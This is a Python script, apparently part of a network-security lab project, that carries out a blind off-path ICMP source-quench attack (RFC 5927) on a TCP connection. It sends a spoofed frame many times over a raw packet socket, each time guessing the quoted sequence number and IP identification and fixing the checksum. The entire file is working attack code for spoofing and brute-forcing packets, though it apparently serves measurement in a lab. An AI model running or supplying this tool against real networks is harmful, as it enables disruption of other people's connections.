# SPDX-License-Identifier: Apache-2.0
# SPDX-FileCopyrightText: 2026 The Quench Authors
"""Source quenches of an attacker who sees no packet of the connection (RFC 5927). Run as a program, by hostlab.blind.

It knows the addresses, both ports and a router's address, and writes that into the IP header with the largest time to
live. What it guesses is the sequence number and the identification in the quote, uniformly and independently.
"""

from __future__ import annotations

import argparse
import random
import socket
import struct
import sys
import time

# Offsets in a frame of Ethernet, IPv4, ICMP and the quote, all without options.
_ICMP_CHECKSUM, _IDENTIFICATION, _SEQ = 36, 46, 66
# Linux: linux/if_packet.h.
_SOL_PACKET, _PACKET_QDISC_BYPASS = 263, 20


def _guess_all(frame: bytearray, sender: socket.socket, count: int, seed: int) -> None:
    """Send the frame ``count`` times, each with another guess and the right checksum."""
    draw = random.Random(seed).getrandbits
    put, send = struct.Struct("!H").pack_into, sender.send
    put_seq = struct.Struct("!I").pack_into
    for offset in (_ICMP_CHECKSUM, _IDENTIFICATION, _SEQ, _SEQ + 2):
        put(frame, offset, 0)
    base = sum(struct.unpack(f"!{(len(frame) - 34) // 2}H", frame[34:]))
    for _ in range(count):
        identification, seq = draw(16), draw(32)
        total = base + identification + (seq >> 16) + (seq & 0xFFFF)
        total = (total & 0xFFFF) + (total >> 16)
        total = (total & 0xFFFF) + (total >> 16)
        put(frame, _ICMP_CHECKSUM, total ^ 0xFFFF)
        put(frame, _IDENTIFICATION, identification)
        put_seq(frame, _SEQ, seq)
        send(frame)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("device")
    parser.add_argument("frame", help="an ISQ about some packet of the connection, in hexadecimal")
    parser.add_argument("count", type=int)
    parser.add_argument("seed", type=int)
    arguments = parser.parse_args()
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sender:
        sender.bind((arguments.device, 0))
        sender.setsockopt(_SOL_PACKET, _PACKET_QDISC_BYPASS, 1)
        start_s = time.monotonic()
        _guess_all(bytearray.fromhex(arguments.frame), sender, arguments.count, arguments.seed)
        sys.stdout.write(f"{time.monotonic() - start_s}\n")


if __name__ == "__main__":
    main()
